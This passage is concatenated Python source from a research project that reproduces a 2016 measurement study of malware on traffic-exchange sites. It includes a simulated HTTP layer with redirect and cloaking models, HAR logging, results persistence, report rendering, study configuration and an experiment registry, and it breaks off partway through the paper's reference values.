            response.headers["Set-Cookie"] = set_cookie
        return response

    # ------------------------------------------------------------------
    def _serve_hop(self, hop: RedirectHop, url: Url) -> HttpResponse:
        if hop.mechanism == "meta":
            return HttpResponse.html(_META_REFRESH_TEMPLATE % hop.location, url=url)
        if hop.mechanism == "js":
            markup = (
                "<html><body><script>window.location.href = '%s';</script></body></html>"
                % hop.location
            )
            return HttpResponse.html(markup, url=url)
        return HttpResponse.redirect(hop.location, status=hop.status, url=url)

    def _handle_shortener(self, request: HttpRequest) -> HttpResponse:
        url = request.url
        slug = url.path.lstrip("/")
        referrer_domain = ""
        if request.referrer:
            referrer_url = Url.try_parse(request.referrer)
            if referrer_url is not None:
                referrer_domain = referrer_url.registrable_domain
        target = self.registry.shorteners.service(url.host).resolve(
            slug, referrer=referrer_domain, country=request.country
        )
        if target is None:
            return HttpResponse.not_found(url=url)
        return HttpResponse.redirect(target, status=301, url=url)

    @staticmethod
    def _looks_like_scanner(request: HttpRequest) -> bool:
        """Cloaking trigger: direct fetches with no referrer.

        Real cloaked sites fingerprint scanners by referrer and UA; our
        model uses the referrer (URL scanners fetch bare URLs, while the
        surf traffic always arrives from an exchange page).
        """
        return not request.referrer
