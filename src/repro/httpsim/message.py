"""HTTP request/response message types for the simulation layer."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Optional

from ..simweb.url import Url

__all__ = ["HttpRequest", "HttpResponse", "STATUS_REASONS"]

STATUS_REASONS: Dict[int, str] = {
    200: "OK",
    301: "Moved Permanently",
    302: "Temporary Redirect",
    303: "See Other",
    307: "Temporary Redirect",
    404: "Not Found",
    410: "Gone",
    500: "Internal Server Error",
    502: "Bad Gateway",
}

_DEFAULT_UA = "Mozilla/5.0 (Windows NT 6.1; rv:38.0) Gecko/20100101 Firefox/38.0"


@dataclass
class HttpRequest:
    """A simulated HTTP request."""

    url: Url
    method: str = "GET"
    headers: Dict[str, str] = field(default_factory=dict)
    #: two-letter-ish country of the requesting client (exchanges route
    #: traffic from a diverse IP pool; shortener stats track this)
    country: str = "US"

    @classmethod
    def get(cls, url: str, referrer: str = "", user_agent: str = _DEFAULT_UA,
            country: str = "US") -> "HttpRequest":
        headers = {"User-Agent": user_agent}
        if referrer:
            headers["Referer"] = referrer
        return cls(url=Url.parse(url), headers=headers, country=country)

    @property
    def referrer(self) -> str:
        return self.headers.get("Referer", "")

    @property
    def user_agent(self) -> str:
        return self.headers.get("User-Agent", "")


@dataclass
class HttpResponse:
    """A simulated HTTP response."""

    status: int
    headers: Dict[str, str] = field(default_factory=dict)
    body: bytes = b""
    #: the URL this response was served for (after server-side handling)
    url: Optional[Url] = None

    @property
    def reason(self) -> str:
        return STATUS_REASONS.get(self.status, "Unknown")

    @property
    def ok(self) -> bool:
        return 200 <= self.status < 300

    @property
    def is_redirect(self) -> bool:
        return self.status in (301, 302, 303, 307) and "Location" in self.headers

    @property
    def location(self) -> str:
        return self.headers.get("Location", "")

    @property
    def content_type(self) -> str:
        return self.headers.get("Content-Type", "application/octet-stream")

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", errors="replace")

    @classmethod
    def html(cls, markup: str, status: int = 200, url: Optional[Url] = None) -> "HttpResponse":
        return cls(status=status, headers={"Content-Type": "text/html; charset=utf-8"},
                   body=markup.encode("utf-8"), url=url)

    @classmethod
    def redirect(cls, location: str, status: int = 302, url: Optional[Url] = None) -> "HttpResponse":
        return cls(status=status, headers={"Location": location}, url=url)

    @classmethod
    def not_found(cls, url: Optional[Url] = None) -> "HttpResponse":
        return cls.html("<html><body><h1>404 Not Found</h1></body></html>", status=404, url=url)
