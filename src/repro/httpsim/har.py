"""HTTP Archive (HAR) logging.

The paper's crawlers captured traffic "including HTTP and HTTPS" with
Firebug plus the NetExport extension, which writes HAR files (Section
III-A).  This module provides a compatible subset of the HAR 1.2 format:
entries with request/response records, redirect locations, and timings,
plus (de)serialization — the redirection-chain analysis (Figures 4/5)
runs off these records.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any, Dict, List

from .message import HttpRequest, HttpResponse

__all__ = ["HarEntry", "HarLog"]


@dataclass
class HarEntry:
    """One request/response pair."""

    url: str
    method: str = "GET"
    status: int = 200
    content_type: str = ""
    redirect_location: str = ""
    referrer: str = ""
    body_size: int = 0
    #: seconds on the capture clock — the *same* injectable clock
    #: (:class:`repro.obs.clock.Clock`) the tracer and event log use, so
    #: HAR timings line up with spans without wall-clock drift
    started: float = 0.0
    duration_ms: float = 0.0
    #: page identifier tying sub-resources to their page visit
    page_ref: str = ""

    @classmethod
    def from_transaction(
        cls,
        request: HttpRequest,
        response: HttpResponse,
        started: float = 0.0,
        duration_ms: float = 0.0,
        page_ref: str = "",
    ) -> "HarEntry":
        return cls(
            url=str(request.url),
            method=request.method,
            status=response.status,
            content_type=response.content_type,
            redirect_location=response.location,
            referrer=request.referrer,
            body_size=len(response.body),
            started=started,
            duration_ms=duration_ms,
            page_ref=page_ref,
        )

    def to_har_dict(self) -> Dict[str, Any]:
        return {
            "pageref": self.page_ref,
            "startedDateTime": self.started,
            "time": self.duration_ms,
            "request": {
                "method": self.method,
                "url": self.url,
                "headers": (
                    [{"name": "Referer", "value": self.referrer}] if self.referrer else []
                ),
            },
            "response": {
                "status": self.status,
                "content": {"size": self.body_size, "mimeType": self.content_type},
                "redirectURL": self.redirect_location,
            },
        }

    @classmethod
    def from_har_dict(cls, data: Dict[str, Any]) -> "HarEntry":
        request = data.get("request", {})
        response = data.get("response", {})
        referrer = ""
        for header in request.get("headers", []):
            if header.get("name") == "Referer":
                referrer = header.get("value", "")
        return cls(
            url=request.get("url", ""),
            method=request.get("method", "GET"),
            status=response.get("status", 0),
            content_type=response.get("content", {}).get("mimeType", ""),
            redirect_location=response.get("redirectURL", ""),
            referrer=referrer,
            body_size=response.get("content", {}).get("size", 0),
            started=data.get("startedDateTime", 0.0),
            duration_ms=data.get("time", 0.0),
            page_ref=data.get("pageref", ""),
        )


@dataclass
class HarLog:
    """An ordered log of entries (one crawl session's capture)."""

    creator: str = "repro-netexport/1.0"
    entries: List[HarEntry] = field(default_factory=list)

    def add(self, entry: HarEntry) -> None:
        self.entries.append(entry)

    def extend(self, entries: List[HarEntry]) -> None:
        self.entries.extend(entries)

    def __len__(self) -> int:
        return len(self.entries)

    def entries_for_page(self, page_ref: str) -> List[HarEntry]:
        return [e for e in self.entries if e.page_ref == page_ref]

    def time_span(self) -> float:
        """Capture duration in seconds (first request start to last end).

        Well-defined because every entry's ``started`` comes from one
        shared clock; feeds the per-exchange request-rate telemetry.
        """
        if not self.entries:
            return 0.0
        first = min(e.started for e in self.entries)
        last = max(e.started + e.duration_ms / 1000.0 for e in self.entries)
        return last - first

    def redirect_chain(self, start_url: str) -> List[HarEntry]:
        """Follow redirect records from ``start_url`` through the log."""
        chain: List[HarEntry] = []
        current = start_url
        by_url: Dict[str, HarEntry] = {}
        for entry in self.entries:
            by_url.setdefault(entry.url, entry)
        seen = set()
        while current in by_url and current not in seen:
            seen.add(current)
            entry = by_url[current]
            chain.append(entry)
            if not entry.redirect_location:
                break
            current = entry.redirect_location
        return chain

    # -- (de)serialization --------------------------------------------------
    def to_json(self) -> str:
        return json.dumps(
            {
                "log": {
                    "version": "1.2",
                    "creator": {"name": self.creator, "version": "1.0"},
                    "entries": [entry.to_har_dict() for entry in self.entries],
                }
            },
            indent=2,
        )

    @classmethod
    def from_json(cls, text: str) -> "HarLog":
        data = json.loads(text)
        log = data.get("log", {})
        out = cls(creator=log.get("creator", {}).get("name", "unknown"))
        for entry in log.get("entries", []):
            out.add(HarEntry.from_har_dict(entry))
        return out
