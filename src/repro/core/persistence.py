"""Study-results persistence.

Serializes a :class:`~repro.core.results.StudyResults` to a stable JSON
document and back — enough for archiving runs, diffing reproductions
across seeds/scales, and feeding external plotting tools.
"""

from __future__ import annotations

import json
from typing import Any, Dict

from collections import Counter

from ..analysis import (
    CategorizationResult,
    ContentCategoryDistribution,
    ExchangeDomainStats,
    ExchangeUrlStats,
    MaliciousTimeseries,
    RedirectDistribution,
    ShortUrlRow,
    TldDistribution,
)
from ..analysis.casestudies import FalsePositiveFinding
from ..malware.taxonomy import MalwareCategory
from .results import Figure2Data, StudyResults

__all__ = ["results_to_json", "results_from_json", "save_results", "load_results"]

_FORMAT_VERSION = 1


def results_to_json(results: StudyResults) -> str:
    """Serialize results to a JSON string."""
    payload: Dict[str, Any] = {
        "format_version": _FORMAT_VERSION,
        "overall_malicious_fraction": results.overall_malicious_fraction,
        "table1": [
            {
                "exchange": r.exchange, "kind": r.kind,
                "urls_crawled": r.urls_crawled, "self_referrals": r.self_referrals,
                "popular_referrals": r.popular_referrals, "regular_urls": r.regular_urls,
                "malicious_urls": r.malicious_urls,
            }
            for r in results.table1
        ],
        "table2": [
            {
                "exchange": r.exchange, "domains": r.domains,
                "malware_domains": r.malware_domains,
                "domain_set": sorted(r.domain_set),
                "malware_domain_set": sorted(r.malware_domain_set),
            }
            for r in results.table2
        ],
        "table3": (
            {
                "counts": {c.value: n for c, n in results.table3.counts.items()},
                "total_malicious": results.table3.total_malicious,
            }
            if results.table3 is not None else None
        ),
        "table4": [
            {
                "short_url": r.short_url, "short_hits": r.short_hits,
                "long_url": r.long_url, "long_hits": r.long_hits,
                "top_country": r.top_country, "top_referrer": r.top_referrer,
            }
            for r in results.table4
        ],
        "figure3": {
            name: ts.points for name, ts in results.figure3.items()
        },
        "figure4_chain": results.figure4_chain,
        "figure5": dict(results.figure5.counts) if results.figure5 is not None else None,
        "figure6": dict(results.figure6.counts) if results.figure6 is not None else None,
        "figure7": dict(results.figure7.counts) if results.figure7 is not None else None,
        "false_positives": [
            {"url": fp.url, "reason": fp.reason, "labels": fp.labels}
            for fp in results.false_positives
        ],
    }
    return json.dumps(payload, indent=2)


def results_from_json(text: str) -> StudyResults:
    """Rebuild :class:`StudyResults` from :func:`results_to_json` output."""
    payload = json.loads(text)
    if payload.get("format_version") != _FORMAT_VERSION:
        raise ValueError("unsupported results format version %r" % payload.get("format_version"))

    table1 = [
        ExchangeUrlStats(
            exchange=row["exchange"], kind=row["kind"],
            urls_crawled=row["urls_crawled"], self_referrals=row["self_referrals"],
            popular_referrals=row["popular_referrals"], regular_urls=row["regular_urls"],
            malicious_urls=row["malicious_urls"],
        )
        for row in payload["table1"]
    ]
    table2 = []
    for row in payload["table2"]:
        stats = ExchangeDomainStats(
            exchange=row["exchange"], domains=row["domains"],
            malware_domains=row["malware_domains"],
        )
        stats.domain_set = set(row["domain_set"])
        stats.malware_domain_set = set(row["malware_domain_set"])
        table2.append(stats)

    table3 = None
    if payload.get("table3") is not None:
        table3 = CategorizationResult(
            counts={MalwareCategory(k): v for k, v in payload["table3"]["counts"].items()},
            total_malicious=payload["table3"]["total_malicious"],
        )

    table4 = [ShortUrlRow(**row) for row in payload["table4"]]

    figure3 = {
        name: MaliciousTimeseries(exchange=name, points=[tuple(p) for p in points])
        for name, points in payload["figure3"].items()
    }

    def counter_of(key: str, cast_key=lambda k: k):
        raw = payload.get(key)
        if raw is None:
            return None
        return Counter({cast_key(k): v for k, v in raw.items()})

    figure5_counts = counter_of("figure5", int)
    figure6_counts = counter_of("figure6")
    figure7_counts = counter_of("figure7")

    results = StudyResults(
        table1=table1,
        table2=table2,
        table3=table3,
        table4=table4,
        figure2=Figure2Data.from_stats(table1),
        figure3=figure3,
        figure4_chain=payload.get("figure4_chain"),
        figure5=RedirectDistribution(counts=figure5_counts) if figure5_counts is not None else None,
        figure6=TldDistribution(counts=figure6_counts) if figure6_counts is not None else None,
        figure7=(
            ContentCategoryDistribution(counts=figure7_counts)
            if figure7_counts is not None else None
        ),
        false_positives=[
            FalsePositiveFinding(url=fp["url"], reason=fp["reason"], labels=fp["labels"])
            for fp in payload.get("false_positives", [])
        ],
        overall_malicious_fraction=payload["overall_malicious_fraction"],
    )
    return results


def save_results(results: StudyResults, path: str) -> None:
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(results_to_json(results))


def load_results(path: str) -> StudyResults:
    with open(path, "r", encoding="utf-8") as handle:
        return results_from_json(handle.read())
