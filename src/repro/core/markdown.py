"""Markdown report writer.

Renders a complete study into a single Markdown document (GitHub-table
format) — the artifact a release pipeline would attach to a run, and the
generator behind paper-vs-measured writeups.
"""

from __future__ import annotations

from typing import List, Sequence

from ..malware.taxonomy import MalwareCategory
from .reference import ComparisonReport, compare_to_paper
from .results import StudyResults

__all__ = ["markdown_table", "render_markdown_report"]


def markdown_table(headers: Sequence[str], rows: Sequence[Sequence[object]]) -> str:
    """Render a GitHub-style table (shared by all Markdown reports)."""
    lines = ["| " + " | ".join(headers) + " |",
             "|" + "|".join("---" for _ in headers) + "|"]
    lines.extend("| " + " | ".join(str(c) for c in row) + " |" for row in rows)
    return "\n".join(lines)


_table = markdown_table


def render_markdown_report(results: StudyResults, title: str = "Study report",
                           include_comparison: bool = True) -> str:
    """Render the full study as Markdown."""
    sections: List[str] = ["# %s" % title, ""]

    sections.append(
        "**Headline:** %.1f%% of regular URLs malicious (paper: >26%%) — %s."
        % (100 * results.overall_malicious_fraction,
           "holds" if results.headline_holds else "does not hold")
    )
    sections.append("")

    sections.append("## Table I — per-exchange URL statistics\n")
    sections.append(_table(
        ("Exchange", "Type", "URLs", "Self", "Popular", "Regular", "Malicious", "%"),
        [
            (r.exchange, r.kind, r.urls_crawled, r.self_referrals, r.popular_referrals,
             r.regular_urls, r.malicious_urls, "%.1f%%" % (100 * r.malicious_fraction))
            for r in results.table1
        ],
    ))

    sections.append("\n## Table II — per-exchange domain statistics\n")
    sections.append(_table(
        ("Exchange", "Domains", "Malware domains", "%"),
        [
            (r.exchange, r.domains, r.malware_domains, "%.1f%%" % (100 * r.malware_fraction))
            for r in results.table2
        ],
    ))

    if results.table3 is not None:
        sections.append("\n## Table III — malware categorization\n")
        rows = [(category.value, "%.1f%%" % share)
                for category, share in results.table3.table_rows()]
        rows.append(("miscellaneous (count)",
                     str(results.table3.count(MalwareCategory.MISCELLANEOUS))))
        sections.append(_table(("Category", "Share of categorized"), rows))

    if results.table4:
        sections.append("\n## Table IV — malicious shortened URLs\n")
        sections.append(_table(
            ("Short URL", "Hits", "Long-URL hits", "Country", "Referrer"),
            [
                (r.short_url, r.short_hits, r.long_hits, r.top_country, r.top_referrer)
                for r in results.table4[:20]
            ],
        ))

    if results.figure5 is not None and results.figure5.total:
        sections.append("\n## Figure 5 — redirection counts\n")
        sections.append(_table(
            ("Redirections", "URLs"),
            [(hops, count) for hops, count in results.figure5.bars()],
        ))

    if results.figure6 is not None and results.figure6.total:
        sections.append("\n## Figure 6 — TLD distribution\n")
        rows = [(tld, "%.1f%%" % share) for tld, share in results.figure6.top(4)]
        rows.append(("others", "%.1f%%" % results.figure6.others_percentage(4)))
        sections.append(_table(("TLD", "Share"), rows))

    if results.figure7 is not None and results.figure7.total:
        sections.append("\n## Figure 7 — content categories\n")
        sections.append(_table(
            ("Category", "Share"),
            [(category, "%.1f%%" % share) for category, share in results.figure7.ranked()],
        ))

    if results.figure4_chain:
        sections.append("\n## Figure 4 — example redirection chain\n")
        sections.append("```")
        for index, url in enumerate(results.figure4_chain):
            sections.append("%s%s" % ("  " * index, url))
        sections.append("```")

    sections.append("\n## False positives\n")
    if results.false_positives:
        sections.append(_table(
            ("URL", "Reason"),
            [(fp.url, fp.reason) for fp in results.false_positives[:15]],
        ))
    else:
        sections.append("_none identified at this scale_")

    if include_comparison:
        comparison: ComparisonReport = compare_to_paper(results)
        sections.append("\n## Paper comparison\n")
        sections.append(_table(
            ("Artifact", "Metric", "Paper", "Measured", "Delta"),
            [
                (m.artifact, m.metric, "%.1f%%" % m.paper, "%.1f%%" % m.measured,
                 "%+.1f" % m.delta)
                for m in comparison.metrics
            ],
        ))
        sections.append("\n### Shape claims\n")
        sections.append(_table(
            ("Claim", "Status"),
            [(name, "✓" if ok else "✗")
             for name, ok in sorted(comparison.shape_checks.items())],
        ))
    sections.append("")
    return "\n".join(sections)
