"""Study configuration."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional, Sequence

from ..exchanges.roster import EXCHANGE_PROFILES, ExchangeProfile
from ..simweb.generator import WebGenerationConfig

__all__ = ["StudyConfig"]


@dataclass
class StudyConfig:
    """Everything needed to reproduce the full study deterministically.

    ``scale`` linearly scales crawl volume against the paper's 1,003,087
    URLs; 1.0 regenerates the full study size, the 0.05 default runs in
    seconds while preserving every distribution's shape (see DESIGN.md
    §5 on shape-preserving calibration).
    """

    seed: int = 2016
    scale: float = 0.05
    #: submit downloaded page files to the scanners (the paper's cloaking
    #: mitigation, footnote 1); False reproduces the naive URL-only setup
    submit_files: bool = True
    #: worker count for both sharded phases (repro.crawlexec and
    #: repro.scanexec); None resolves to the REPRO_WORKERS environment
    #: override (REPRO_SCAN_WORKERS is a deprecated alias) or the serial
    #: default of 1.  Results are bit-identical at any width for a
    #: fixed seed
    workers: Optional[int] = None
    #: record a per-URL VerdictProvenance chain during the scan phase
    #: (the flight recorder behind ``repro explain``); off by default —
    #: measurement outputs are identical either way
    record_provenance: bool = False
    #: JS sandbox execution backend: "ast" (tree-walking reference),
    #: "vm" (opcode-compiled dispatch loop), or None to read
    #: $REPRO_JS_BACKEND.  Verdicts and reports are bit-identical
    #: either way; the vm backend just simulates fewer steps
    js_backend: Optional[str] = None
    #: enable the deterministic work-accounting profiler and memory
    #: ledger (repro.obs.profile): the study builds its pipeline with a
    #: profiling RunObserver and a MemoryLedger attached.  Off by
    #: default; measurement outputs are identical either way
    profile: bool = False
    profiles: Sequence[ExchangeProfile] = field(default_factory=lambda: EXCHANGE_PROFILES)
    #: optional overrides for web generation (seed/scale are synced in)
    web: Optional[WebGenerationConfig] = None

    def web_config(self) -> WebGenerationConfig:
        config = self.web if self.web is not None else WebGenerationConfig()
        config.seed = self.seed
        config.scale = self.scale
        return config

    def pipeline_options(self, observer=None, memory_ledger=None):
        """The :class:`~repro.crawler.options.PipelineOptions` this study
        builds its pipeline with (``+61`` keeps the pipeline RNG stream
        disjoint from web generation, as every pinned-value test assumes).
        """
        from ..crawler.options import PipelineOptions

        return PipelineOptions(
            seed=self.seed + 61,
            submit_files=self.submit_files,
            workers=self.workers,
            record_provenance=self.record_provenance,
            observer=observer,
            memory_ledger=memory_ledger,
            js_backend=self.js_backend,
        )
