"""Study configuration."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional, Sequence

from ..exchanges.roster import EXCHANGE_PROFILES, ExchangeProfile
from ..simweb.generator import WebGenerationConfig

__all__ = ["StudyConfig"]


@dataclass
class StudyConfig:
    """Everything needed to reproduce the full study deterministically.

    ``scale`` linearly scales crawl volume against the paper's 1,003,087
    URLs; 1.0 regenerates the full study size, the 0.05 default runs in
    seconds while preserving every distribution's shape (see DESIGN.md
    §5 on shape-preserving calibration).
    """

    seed: int = 2016
    scale: float = 0.05
    #: submit downloaded page files to the scanners (the paper's cloaking
    #: mitigation, footnote 1); False reproduces the naive URL-only setup
    submit_files: bool = True
    #: scan-phase worker count (repro.scanexec); None resolves to the
    #: REPRO_SCAN_WORKERS environment override or the serial default of 1.
    #: Results are bit-identical at any width for a fixed seed
    workers: Optional[int] = None
    #: record a per-URL VerdictProvenance chain during the scan phase
    #: (the flight recorder behind ``repro explain``); off by default —
    #: measurement outputs are identical either way
    record_provenance: bool = False
    #: enable the deterministic work-accounting profiler and memory
    #: ledger (repro.obs.profile): the study builds its pipeline with a
    #: profiling RunObserver and a MemoryLedger attached.  Off by
    #: default; measurement outputs are identical either way
    profile: bool = False
    profiles: Sequence[ExchangeProfile] = field(default_factory=lambda: EXCHANGE_PROFILES)
    #: optional overrides for web generation (seed/scale are synced in)
    web: Optional[WebGenerationConfig] = None

    def web_config(self) -> WebGenerationConfig:
        config = self.web if self.web is not None else WebGenerationConfig()
        config.seed = self.seed
        config.scale = self.scale
        return config
