"""The experiment registry: DESIGN.md's per-experiment index as code.

Each :class:`Experiment` ties a paper artifact (table/figure/section) to
the analysis function that regenerates it and the bench module that
asserts its shape.  :func:`run_experiment` executes one against a
completed study; ``python -m repro run`` and the benches are thin
wrappers over the same functions.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Callable, Dict, Optional, Tuple

from ..analysis import (
    categorize_dataset,
    compute_content_categories,
    compute_domain_stats,
    compute_exchange_stats,
    compute_shortener_stats,
    compute_timeseries,
    compute_tld_distribution,
    example_chain,
    identify_false_positives,
    redirect_count_distribution,
)

__all__ = ["Experiment", "EXPERIMENTS", "experiment", "run_experiment"]


@dataclass(frozen=True)
class Experiment:
    """One row of DESIGN.md's per-experiment index."""

    experiment_id: str
    paper_artifact: str
    description: str
    modules: Tuple[str, ...]
    bench: str
    runner: Optional[Callable[..., Any]] = None


def _run_table1(study):
    return compute_exchange_stats(
        study.pipeline.dataset, study.outcome,
        exchange_kinds={p.name: p.kind for p in study.config.profiles},
    )


def _run_table2(study):
    return compute_domain_stats(study.pipeline.dataset, study.outcome)


def _run_table3(study):
    return categorize_dataset(study.pipeline.dataset, study.outcome,
                              study.pipeline.blacklists)


def _run_table4(study):
    return compute_shortener_stats(study.pipeline.dataset, study.outcome,
                                   study.web.registry)


def _run_fig3(study):
    return compute_timeseries(study.pipeline.dataset, study.outcome)


def _run_fig4(study):
    return example_chain(study.pipeline.dataset, study.outcome, min_hops=3)


def _run_fig5(study):
    return redirect_count_distribution(study.pipeline.dataset, study.outcome)


def _run_fig6(study):
    return compute_tld_distribution(study.pipeline.dataset, study.outcome)


def _run_fig7(study):
    return compute_content_categories(study.pipeline.dataset, study.outcome)


def _run_fps(study):
    return identify_false_positives(study.pipeline.dataset, study.outcome)


EXPERIMENTS: Tuple[Experiment, ...] = (
    Experiment("E1", "Table I", "per-exchange URL statistics",
               ("repro.exchanges", "repro.crawler", "repro.analysis.exchange_stats"),
               "benchmarks/test_table1_exchange_stats.py", _run_table1),
    Experiment("E2", "Table II", "per-exchange domain statistics",
               ("repro.analysis.domains",),
               "benchmarks/test_table2_domain_stats.py", _run_table2),
    Experiment("E3", "Table III", "malware categorization",
               ("repro.analysis.categorize", "repro.detection.blacklists"),
               "benchmarks/test_table3_categorization.py", _run_table3),
    Experiment("E4", "Table IV", "malicious shortened URL hit statistics",
               ("repro.simweb.shortener", "repro.analysis.shortener_stats"),
               "benchmarks/test_table4_shortener_stats.py", _run_table4),
    Experiment("E5", "Figure 2", "malware ratio per exchange",
               ("repro.core.results",),
               "benchmarks/test_fig2_malware_ratio.py", _run_table1),
    Experiment("E6", "Figure 3", "cumulative malicious-URL time series + burst validation",
               ("repro.analysis.timeseries", "repro.exchanges.campaigns"),
               "benchmarks/test_fig3_timeseries.py", _run_fig3),
    Experiment("E7", "Figure 4", "example redirection chain",
               ("repro.malware.redirector", "repro.httpsim.har", "repro.analysis.redirects"),
               "benchmarks/test_fig4_redirect_chain.py", _run_fig4),
    Experiment("E8", "Figure 5", "distribution of redirection counts",
               ("repro.analysis.redirects",),
               "benchmarks/test_fig5_redirect_distribution.py", _run_fig5),
    Experiment("E9", "Figure 6", "malicious URLs by TLD",
               ("repro.analysis.tld",),
               "benchmarks/test_fig6_tld_distribution.py", _run_fig6),
    Experiment("E10", "Figure 7", "malicious content categories",
               ("repro.analysis.content_categories",),
               "benchmarks/test_fig7_content_categories.py", _run_fig7),
    Experiment("E11", "Section III-B", "detection-tool vetting on gold standard",
               ("repro.detection.vetting",),
               "benchmarks/test_vetting_gold_standard.py", None),
    Experiment("E12", "Section V", "malware case studies + false positives",
               ("repro.analysis.casestudies", "repro.jsengine", "repro.flashsim"),
               "benchmarks/test_case_studies.py", _run_fps),
    Experiment("E13", "Figure 9", "rotating server-side redirect targets",
               ("repro.malware.redirector", "repro.httpsim"),
               "benchmarks/test_fig4_redirect_chain.py", None),
)

_BY_ID: Dict[str, Experiment] = {e.experiment_id: e for e in EXPERIMENTS}


def experiment(experiment_id: str) -> Experiment:
    """Look up an experiment by id (E1..E13)."""
    return _BY_ID[experiment_id]


def run_experiment(experiment_id: str, study) -> Any:
    """Execute one experiment's analysis against a completed study."""
    entry = experiment(experiment_id)
    if entry.runner is None:
        raise ValueError(
            "experiment %s has no inline runner; run its bench: %s"
            % (experiment_id, entry.bench)
        )
    study.crawl_and_scan()
    study.pipeline.build_detection()
    return entry.runner(study)
