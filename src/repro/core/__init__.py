"""Study orchestration: configuration, runner, results, reporting."""

from .config import StudyConfig
from .export import export_csvs
from .experiments import EXPERIMENTS, Experiment, experiment, run_experiment
from .reference import ComparisonReport, MetricComparison, compare_to_paper
from .markdown import render_markdown_report
from .persistence import load_results, results_from_json, results_to_json, save_results
from .reporting import (
    render_figure2,
    render_figure3_summary,
    render_figure5,
    render_figure6,
    render_figure7,
    render_full_report,
    render_redirect_chain,
    render_table1,
    render_table2,
    render_table3,
    render_table4,
)
from .results import Figure2Data, StudyResults
from .study import MalwareSlumsStudy

__all__ = [
    "ComparisonReport",
    "EXPERIMENTS",
    "Experiment",
    "Figure2Data",
    "MalwareSlumsStudy",
    "StudyConfig",
    "StudyResults",
    "render_figure2",
    "render_figure3_summary",
    "render_figure5",
    "render_figure6",
    "render_figure7",
    "render_full_report",
    "render_markdown_report",
    "render_redirect_chain",
    "render_table1",
    "render_table2",
    "render_table3",
    "render_table4",
    "MetricComparison",
    "compare_to_paper",
    "experiment",
    "export_csvs",
    "load_results",
    "results_from_json",
    "results_to_json",
    "run_experiment",
    "save_results",
]
