"""The study orchestrator.

:class:`MalwareSlumsStudy` runs the complete reproduction: generate the
synthetic web, build the nine exchanges, crawl, scan, and compute every
table and figure.  Deterministic per :class:`StudyConfig` seed.
"""

from __future__ import annotations

from typing import Optional

from ..analysis import (
    compute_content_categories,
    compute_domain_stats,
    compute_exchange_stats,
    compute_shortener_stats,
    compute_timeseries,
    compute_tld_distribution,
    categorize_dataset,
    example_chain,
    identify_false_positives,
    overall_malicious_fraction,
    redirect_count_distribution,
)
from ..crawler import CrawlPipeline, ScanOutcome
from ..simweb.generator import GeneratedWeb, WebGenerator
from .config import StudyConfig
from .results import Figure2Data, StudyResults

__all__ = ["MalwareSlumsStudy"]


class MalwareSlumsStudy:
    """Runs the end-to-end reproduction of the measurement study."""

    def __init__(self, config: Optional[StudyConfig] = None) -> None:
        self.config = config or StudyConfig()
        self.web: Optional[GeneratedWeb] = None
        self.pipeline: Optional[CrawlPipeline] = None
        self.outcome: Optional[ScanOutcome] = None
        self.results: Optional[StudyResults] = None

    # ------------------------------------------------------------------
    def generate_web(self) -> GeneratedWeb:
        """Step 1: build the synthetic web."""
        if self.web is None:
            generator = WebGenerator(self.config.web_config(),
                                     profiles=self.config.profiles)
            self.web = generator.build()
        return self.web

    def crawl_and_scan(self) -> ScanOutcome:
        """Steps 2-3: crawl the exchanges, scan every distinct URL."""
        if self.outcome is None:
            web = self.generate_web()
            observer = None
            memory_ledger = None
            if self.config.profile:
                from ..obs.observer import RunObserver
                from ..obs.profile import MemoryLedger

                observer = RunObserver(profile=True)
                memory_ledger = MemoryLedger()
            self.pipeline = CrawlPipeline(
                web, self.config.pipeline_options(
                    observer=observer, memory_ledger=memory_ledger))
            self.outcome = self.pipeline.run()
        return self.outcome

    def analyze(self) -> StudyResults:
        """Step 4: rebuild every table and figure."""
        if self.results is not None:
            return self.results
        outcome = self.crawl_and_scan()
        assert self.pipeline is not None and self.web is not None
        dataset = self.pipeline.dataset
        kinds = {p.name: p.kind for p in self.config.profiles}

        table1 = compute_exchange_stats(dataset, outcome, exchange_kinds=kinds)
        blacklists = self.pipeline.blacklists
        assert blacklists is not None

        results = StudyResults(
            table1=table1,
            table2=compute_domain_stats(dataset, outcome),
            table3=categorize_dataset(dataset, outcome, blacklists),
            table4=compute_shortener_stats(dataset, outcome, self.web.registry),
            figure2=Figure2Data.from_stats(table1),
            figure3=compute_timeseries(dataset, outcome),
            figure4_chain=example_chain(dataset, outcome, min_hops=3),
            figure5=redirect_count_distribution(dataset, outcome),
            figure6=compute_tld_distribution(dataset, outcome),
            figure7=compute_content_categories(dataset, outcome),
            false_positives=identify_false_positives(dataset, outcome),
            overall_malicious_fraction=overall_malicious_fraction(table1),
        )
        self.results = results
        return results

    def run(self) -> StudyResults:
        """The whole study; alias for :meth:`analyze`."""
        return self.analyze()
