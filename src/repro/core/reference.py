"""Published reference values and programmatic paper-vs-measured comparison.

Encodes the DSN 2016 paper's reported numbers (Tables I-III, Figures
6-7, the vetting accuracies) and compares a :class:`StudyResults`
against them, producing per-metric deltas — the machine-readable version
of EXPERIMENTS.md.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from ..malware.taxonomy import MalwareCategory
from .results import StudyResults

__all__ = [
    "PAPER_TABLE1_MALICIOUS_PCT",
    "PAPER_TABLE2_MALWARE_DOMAIN_PCT",
    "PAPER_TABLE3_SHARES_PCT",
    "PAPER_FIGURE6_PCT",
    "PAPER_FIGURE7_PCT",
    "PAPER_VETTING_PCT",
    "PAPER_OVERALL_MALICIOUS_PCT",
    "MetricComparison",
    "ComparisonReport",
    "compare_to_paper",
]

PAPER_OVERALL_MALICIOUS_PCT = 26.7  # 214,527 / 802,434

PAPER_TABLE1_MALICIOUS_PCT: Dict[str, float] = {
    "10KHits": 33.8, "ManyHits": 14.6, "Smiley Traffic": 8.7,
    "SendSurf": 51.9, "Otohits": 7.4, "Cash N Hits": 10.2,
    "Easyhits4u": 10.4, "Hit2Hit": 8.5, "Traffic Monsoon": 12.2,
}

PAPER_TABLE2_MALWARE_DOMAIN_PCT: Dict[str, float] = {
    "10KHits": 15.0, "ManyHits": 14.1, "Smiley Traffic": 9.5,
    "SendSurf": 4.3, "Otohits": 13.9, "Cash N Hits": 17.1,
